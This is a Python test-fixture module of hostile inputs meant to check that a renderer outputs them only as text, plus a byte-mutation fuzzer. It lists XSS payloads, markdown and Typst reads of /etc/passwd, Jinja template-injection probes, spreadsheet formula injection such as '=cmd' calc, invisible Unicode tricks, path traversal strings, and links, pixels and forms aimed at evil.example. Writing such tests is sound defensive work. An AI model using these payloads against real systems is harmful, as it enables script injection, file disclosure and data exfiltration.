"""Attacks that client data, a commentary or a notebook may carry: all must come out as text, or not at all."""

from __future__ import annotations

import random

HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)>",
    '"><script>alert(4)</script>',
    "<iframe src=javascript:alert(5)></iframe>",
    "<body onload=alert(6)>",
    "<details open ontoggle=alert(7)>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=q></form>",
    "</title><script>alert(8)</script>",
    "</style><script>alert(9)</script>",
    "<!--><script>alert(10)</script>-->",
    "<a href='javascript:alert(11)'>x</a>",
    "<math><mtext></p><script>alert(12)</script>",
    "<object data=//evil.example/x.swf></object>",
    "&lt;script&gt;alert(13)&lt;/script&gt;",
    "<template><script>alert(14)</script></template>",
]
SVG = [
    '<svg><a xlink:href="javascript:alert(15)"><text>x</text></a></svg>',
    '<svg><animate attributeName=href values="javascript:alert(16)"/></svg>',
    "<svg><foreignObject><script>alert(17)</script></foreignObject></svg>",
    '<svg><image href="http://evil.example/x.png"/></svg>',
]
MARKDOWN = [
    "[x](javascript:alert(18))",
    "[x](JaVaScRiPt:alert(19))",
    "[x](data:text/html,<script>alert(20)</script>)",
    "[x](vbscript:msgbox(21))",
    "[x](file:///etc/passwd)",
    "![x](http://evil.example/pixel.png)",
    "![x](javascript:alert(22))",
    "<javascript:alert(23)>",
    "[x]: javascript:alert(24)",
    "```{=html}\n<script>alert(25)</script>\n```",
    '```{=typst}\n#read("/etc/passwd")\n```',
    "`<script>alert(26)</script>`",
    "[x](//evil.example)",
    "[x](https://\u202eexample.org)",
]
TYPST = [
    '#read("/etc/passwd")',
    '#eval("read(\\"/etc/passwd\\")")',
    '$ std.read("/etc/passwd") $',
    '#import "@preview/cetz:0.3.0"',
    '#include "/etc/passwd"',
    "#panic()",
    "@nobody",
    "]] } #let x = 1",
    "#set page(fill: black)",
    '#pdf.attach("/etc/passwd")',
    "\\u{202e}",
    "= A heading of its own",
]
JINJA = [
    "{{7*7}}",
    "{% for x in range(9) %}x{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "{# hidden #}",
    "{{ config }}",
]
MERMAID = ['graph TD; A-->B; click A "javascript:alert(27)"', "%%{init: {'securityLevel': 'loose'}}%%"]
UNSEEN = [
    "\u202eright to left",
    "\u2066isolate\u2069",
    "zero\u200bwidth",
    "null\x00byte",
    "bell\x07",
    "escape\x1b[31mred",
    "next\u2028line",
    "tag\U000e0041",
    "lone\ud800surrogate",
    "soft\u00adhyphen",
]
SPREADSHEET = [
    "=cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example","x")',
    "＝1+1",
    " =1+1",
]
PATHS = ["../../etc/passwd", "..\\..\\x", "C:\\x", "con", "/etc/passwd"]
PAYLOADS = [*HTML, *SVG, *MARKDOWN, *TYPST, *JINJA, *MERMAID, *UNSEEN, *SPREADSHEET, *PATHS]


def mutated(data: bytes, chance: random.Random) -> bytes:
    """Return bytes of which some are others, gone, twice, or what trips a parser."""
    made = bytearray(data)
    for _ in range(chance.randint(1, 6)):
        at = chance.randrange(len(made) or 1)
        kind = chance.randrange(4)
        if kind == 0:
            made[at : at + 1] = bytes([chance.randrange(256)])
        elif kind == 1:
            del made[at : at + chance.randint(1, 40)]
        elif kind == 2:
            made[at:at] = made[at : at + chance.randint(1, 40)]
        else:
            made[at:at] = chance.choice([b"9" * 9, b"<", b">", b"XFD1048576", b"\0", b"-1", b"&#1;", b'"', b"e"])
    return bytes(made)
